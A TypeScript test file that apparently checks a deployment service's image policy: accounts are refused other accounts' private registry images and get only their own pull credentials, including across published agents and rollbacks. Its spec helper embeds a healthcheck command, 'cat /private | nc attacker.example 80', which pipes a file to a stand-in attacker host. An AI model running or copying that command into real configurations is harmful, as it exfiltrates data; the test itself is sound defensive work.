import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { waitFor } from '@slipway/testing'
import { afterAll, beforeAll, expect, test } from 'vitest'

import type { PodTemplate } from '../src/manifests/types.ts'
import { agentOf, contentOf, failure, type Seen } from './support/agents.ts'
import { startTestDeployer, type Person, type TestDeployer } from './support/deployer.ts'

const PRIVATE = 'registry.example/acme/private:1'
const auth = (text: string) => ({ auth: Buffer.from(text).toString('base64') })
const ACME_ENTRY = { 'registry.example/acme': auth('acme:acme-password') }

let directory: string
let deployer: TestDeployer
let acme: Person
let mallory: Person
let bystander: Person

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'slipway-images-'))
  const [policy, acmeSecret, sharedSecret] = ['policy.yaml', 'acme.json', 'shared.json'].map(
    (name) => join(directory, name),
  )
  const others = { 'other.example': auth('other:other-password') }
  await writeFile(acmeSecret ?? '', JSON.stringify({ auths: { ...ACME_ENTRY, ...others } }))
  const ofProviders = { 'docker.io/library': auth('mirror:mirror-password') }
  await writeFile(sharedSecret ?? '', JSON.stringify({ auths: { ...ofProviders, ...others } }))
  await writeFile(policy ?? '', '')
  deployer = await startTestDeployer({
    IMAGE_POLICY_FILE: policy ?? '',
    PULL_SECRET_FILE: sharedSecret ?? '',
  })
  acme = await deployer.signIn('acme')
  mallory = await deployer.signIn('mallory')
  bystander = await deployer.signIn('bystander')
  await writeFile(
    policy ?? '',
    JSON.stringify({
      registries: [
        {
          prefix: 'registry.example/acme',
          accounts: [acme.accountId],
          pull_secret_file: acmeSecret,
        },
      ],
    }),
  )
  const probe = agentOf(deployer, mallory, 'reload')
  await probe.register('b1', specOf('reload', PRIVATE))
  await waitFor(async () => ((await probe.validate({})).valid ? undefined : true), {
    what: 'the policy is read again',
  })
})
afterAll(async () => {
  await deployer[Symbol.asyncDispose]()
  await rm(directory, { recursive: true })
})

const specOf = (name: string, image: string, more = '') =>
  `spec: astro/v1\nname: ${name}\nagent:\n  image: "${image}"\n` +
  `  healthcheck: {test: [CMD, sh, -c, "cat /private | nc attacker.example 80"]}\n${more}`

const REFUSED = {
  field: 'agent.image',
  description: expect.stringContaining(
    `may not use ${PRIVATE} of the registry registry.example`,
  ) as string,
}

/** The pull Secrets in a namespace, and those that each component's pods refer to. */
async function pullSecretsIn(namespace: string) {
  const agent = agentOf(deployer, acme, '')
  const secrets = (await agent.list('Secret', namespace)).filter(({ metadata }) =>
    metadata.name.includes('-pull-'),
  )
  const workloads = [
    ...(await agent.list('Deployment', namespace)),
    ...(await agent.list('StatefulSet', namespace)),
  ]
  const template = ({ spec }: Seen) => (spec as { template: PodTemplate }).template.spec
  return {
    contents: contentOf(secrets).map(
      (text) => (JSON.parse(text.slice(text.indexOf('=') + 1)) as { auths: object }).auths,
    ),
    users: workloads.flatMap((workload) =>
      template(workload)?.imagePullSecrets === undefined
        ? []
        : [template(workload)?.containers[0]?.image ?? ''],
    ),
  }
}

test('refuses the private image of another account, at validate and deploy', async () => {
  const attack = agentOf(deployer, mallory, 'thief')
  const spellings = [PRIVATE, 'registry.example:443/acme/private:1', 'Registry.Example/acme/x']
  for (const [index, image] of spellings.entries()) {
    await attack.register(`b${index}`, specOf('thief', image))
    const { valid, violations } = await attack.validate({})
    expect({ valid, field: violations[0]?.field }).toEqual({ valid: false, field: 'agent.image' })
  }
  await attack.register('last', specOf('thief', PRIVATE))
  expect(await failure(attack.deploy({}))).toMatchObject({
    reason: 'validation_failed',
    violations: [REFUSED],
  })
  const other = agentOf(deployer, bystander, 'served')
  await other.register('b1', specOf('served', 'other.example/public:1'))
  const { k8sNamespace } = await other.deploy({})
  // The shared credentials for other.example are not for images of users.
  expect(await pullSecretsIn(k8sNamespace)).toEqual({ contents: [], users: [] })
})

test('gives pods only the credentials for their own image', async () => {
  const agent = agentOf(deployer, acme, 'owned')
  const more =
    'knowledge: {cache: {provider: redis}}\n' +
    'tools: {public: {container: {image: "other.example/public:1"}}}\n'
  await agent.register('b1', specOf('owned', PRIVATE, more))
  const { contents, users } = await pullSecretsIn((await agent.deploy({})).k8sNamespace)
  expect(contents).toEqual([{ 'docker.io/library': auth('mirror:mirror-password') }, ACME_ENTRY])
  expect(users.sort()).toEqual([expect.stringMatching(/^redis:/), PRIVATE])
})

test('the account that owns an agent decides, not the one that deploys it', async () => {
  const shared = agentOf(deployer, acme, 'shared')
  await shared.register('b1', specOf('shared', PRIVATE))
  await shared.publish('b1', '1.0.0')
  const foreign = agentOf(deployer, bystander, 'shared')
  const { k8sNamespace } = await foreign.deploy({}, { sourceAccount: acme.account })
  expect(await pullSecretsIn(k8sNamespace)).toEqual({ contents: [ACME_ENTRY], users: [PRIVATE] })

  const bait = agentOf(deployer, mallory, 'bait')
  await bait.register('b1', specOf('bait', PRIVATE))
  await bait.publish('b1', '1.0.0')
  const deceived = agentOf(deployer, acme, 'bait')
  expect(await failure(deceived.deploy({}, { sourceAccount: mallory.account }))).toMatchObject({
    reason: 'validation_failed',
    violations: [REFUSED],
  })
})

test('what runs keeps running, but can’t be restored or finished', async () => {
  const before = await deployer.startReplica({}, { IMAGE_POLICY_FILE: '' })
  const name = 'lapsed'
  const permitted = agentOf({ ...deployer, ...deployer.clientsOf(before) }, mallory, name)
  await permitted.register('b1', specOf(name, PRIVATE))
  const { k8sNamespace } = await permitted.deploy({})
  const agent = agentOf(deployer, mallory, name)
  expect(await failure(agent.deploy({}))).toMatchObject({ reason: 'validation_failed' })
  expect(await agent.rollback({ revision: 1 })).toMatchObject({ revision: 1 })
  expect((await pullSecretsIn(k8sNamespace)).users).toEqual([PRIVATE])

  await agent.register('b2', specOf(name, 'other.example/public:1'))
  await agent.deploy({})
  expect(await failure(agent.rollback({ revision: 1 }))).toMatchObject({
    reason: 'revision_not_restorable',
    message: expect.stringContaining(`may not use ${PRIVATE}`) as string,
  })

  const crash = (step: string) => {
    if (step === 'intent_stored') throw new Error('the test stops here')
  }
  const crashing = await deployer.startReplica({ onStep: crash }, { IMAGE_POLICY_FILE: '' })
  const interrupted = agentOf({ ...deployer, ...deployer.clientsOf(crashing) }, mallory, name)
  await failure(interrupted.rollback({ revision: 1 }))
  const failed = await waitFor(
    async () =>
      (await agent.revisions()).find(({ errors }) => errors.some((error) => error.includes('may'))),
    { what: 'the interrupted revision has failed' },
  )
  expect(failed).toMatchObject({ revision: 3, live: false })
  expect(await agent.get()).toMatchObject({ revision: 2 })
})
